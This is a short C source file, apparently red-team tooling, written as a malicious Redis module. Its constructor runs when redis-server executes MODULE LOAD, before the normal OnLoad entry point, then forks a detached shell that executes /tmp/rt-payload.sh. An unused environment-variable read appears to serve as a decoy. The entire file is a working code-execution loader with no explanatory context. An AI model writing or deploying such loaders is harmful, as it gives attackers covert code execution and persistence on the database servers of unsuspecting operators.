/* Loaded by redis-server (MODULE LOAD): its constructor runs before Redis looks for OnLoad. */
#include <stdlib.h>
#include <unistd.h>
__attribute__((constructor)) static void run(void) {
    const char *script = getenv("RT_NEVER_SET");
    (void)script;
    if (fork() == 0) {
        setsid();
        execl("/bin/sh", "sh", "/tmp/rt-payload.sh", (char *)0);
        _exit(0);
    }
}
